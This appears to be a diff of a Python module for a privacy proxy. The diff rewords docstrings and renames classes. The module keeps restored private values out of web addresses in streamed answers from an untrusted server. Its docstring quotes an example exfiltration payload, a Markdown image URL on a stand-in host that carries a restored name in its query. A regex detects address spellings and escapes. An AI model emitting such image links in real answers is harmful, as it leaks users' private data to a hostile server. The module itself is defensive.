@@ -1,8 +1,8 @@
-"""Keep restored values out of web addresses that a server wrote.
+"""Keep restored values out of web addresses in answers.
 
-The server is not trusted. It could answer `![](https://its.own.host/?q=PERSON_[...])`: a client
-that shows images would fetch the address, and with the name restored in it the server would read
-in its log what it could not decrypt.
+The server is not trusted. It could answer `![](https://its.own.host/?q=PERSON_[...])`. A client
+that shows images fetches this address; with the name restored in it, the server would receive a
+value that it cannot decrypt.
 """
 
 from __future__ import annotations
@@ -16,26 +16,26 @@ _ADDRESS = re.compile(
     r"https?\\?:|[/\\]{2}|www\.|url\(|\\0{0,4}2f|\\u00[2-7]|&(?:#|sol|bsol|colon|tab|newline)",
     re.IGNORECASE,
 )
-"""What makes a browser leave this page: a scheme, two slashes of either kind, `www.`, or escapes of
-Markdown, HTML, CSS or JSON that spell one of them."""
+"""The signs of an address: a scheme, two slashes or backslashes, `www.`, or escapes in Markdown,
+HTML, CSS or JSON that spell one of them."""
 _FOUND = "//"
 _LONGEST_CUT = 8
-"""No spelling that `_ADDRESS` finds needs more characters before a cut."""
+"""A spelling that `_ADDRESS` finds has at most this many characters before a cut."""
 _IGNORED = dict.fromkeys(map(ord, "\t\n\r"))
-"""Browsers drop these from an address."""
+"""Browsers delete these characters from an address."""
 _SPACES = " \t\n\r\f"
-"""Only these end an address in Markdown (CommonMark 0.31, §6.3), or one without quotes in HTML."""
+"""These end an address in Markdown (CommonMark 0.31, §6.3), and in HTML without quotes."""
 _MARKS = re.compile(rf"[{_SPACES}<>\\\"'=]")
 
 Replace = Callable[[re.Match[str]], str]
 
 
-class Surroundings:
-    """What the end of a text is in the middle of, read piece by piece, in bounded space.
+class AddressTracker:
+    """Track whether the end of a growing text lies inside a web address, in bounded memory.
 
-    Of a word; of a Markdown `<...>`, which an escaped bracket does not end; and of a quoted
-    attribute, by its quotation marks alone: where a tag begins and ends, parsers disagree. In JSON
-    source a quotation mark ends them all.
+    It follows three kinds of constructs: a word; a Markdown `<...>`, which an escaped bracket does
+    not end; and a quoted attribute, by its quotation marks alone, because parsers disagree about
+    where a tag begins and ends. In JSON source a quotation mark ends all of them.
     """
 
     def __init__(self, *, in_json: bool = False) -> None:
@@ -45,11 +45,11 @@ class Surroundings:
 
     @property
     def in_address(self) -> bool:
-        """Whether text that continues would belong to a web address."""
+        """Whether text appended here would belong to a web address."""
         return _FOUND in self._open.values()
 
     def read(self, text: str) -> None:
-        """Take the next piece, however the text is cut."""
+        """Read the next piece; the text may be cut anywhere."""
         begun = dict.fromkeys(self._open, 0)
         escaped, assigned = (0 if flag else -1 for flag in (self._escaped, self._assigned))
         for match in _MARKS.finditer(text):
@@ -84,13 +84,13 @@ class Surroundings:
 
 
 def _short(text: str) -> str:
-    """Return what is to be remembered of a text: that it holds an address, or how it ends."""
+    """Return the part of a text to store: a mark for an address, or its last characters."""
     text = text.translate(_IGNORED)
     return _FOUND if _ADDRESS.search(text) else text[-_LONGEST_CUT:]
 
 
 def replace_outside_addresses(text: str, replace: Replace, *, in_json: bool = False) -> str:
-    """Replace every token of a text, but leave those in web addresses as they are.
+    """Replace every token of a text, except tokens in web addresses.
 
     With `in_json` the text is JSON source, in which a quotation mark ends an address.
     """
@@ -99,47 +99,47 @@ def replace_outside_addresses(text: str, replace: Replace, *, in_json: bool = Fa
 
 
 class GuardedStream:
-    """The same for text that arrives in pieces, however it is cut.
+    """Replace tokens outside web addresses in text that arrives in pieces.
 
-    What counts is the text that is given out: an address may itself be the value of a token.
+    Addresses are searched in the output, because the value of a token may itself be an address.
     """
 
     def __init__(
-        self, replace: Replace, *, in_json: bool = False, beside: Collection[GuardedStream] = ()
+        self, replace: Replace, *, in_json: bool = False, preceding: Collection[GuardedStream] = ()
     ) -> None:
-        """`beside`: texts that a reader may take for the beginning of this one."""
+        """`preceding`: texts that a client may put before this one."""
         self._replace = replace
-        self._beside = beside
-        self._around = Surroundings(in_json=in_json)
-        self._guarded = StreamReplacer(LOOSE, self._value)
+        self._preceding = preceding
+        self._tracker = AddressTracker(in_json=in_json)
+        self._replacer = StreamReplacer(LOOSE, self._value)
         self._taken = self._given = 0
 
     @property
     def in_address(self) -> bool:
-        """Whether what was given out so far ends in a web address."""
-        return self._around.in_address
+        """Whether the output so far ends inside a web address."""
+        return self._tracker.in_address
 
     def feed(self, piece: str) -> str:
-        """Take the next piece; return what is certain by now."""
-        return self._read(self._guarded.feed(piece))
+        """Add the next piece; return the output that is now certain."""
+        return self._read(self._replacer.feed(piece))
 
     def flush(self) -> str:
-        """Return what was held back: the text has ended, or pauses."""
-        return self._read(self._guarded.flush())
+        """Return the text that was held back, at its end or at a pause."""
+        return self._read(self._replacer.flush())
 
     def _read(self, given: str) -> str:
-        """Read what follows the last token."""
+        """Read the text after the last token."""
         if rest := given[self._given :]:
-            self._around.read(rest)
+            self._tracker.read(rest)
         self._taken = self._given = 0
         return given
 
     def _value(self, match: re.Match[str]) -> str:
         between = match.string[self._taken : match.start()]
-        self._around.read(between)
-        kept = self.in_address or any(text.in_address for text in self._beside)
+        self._tracker.read(between)
+        kept = self.in_address or any(text.in_address for text in self._preceding)
         value = match.group() if kept else self._replace(match)
-        self._around.read(value)
+        self._tracker.read(value)
         self._taken = match.end()
         self._given += len(between) + len(value)
         return value
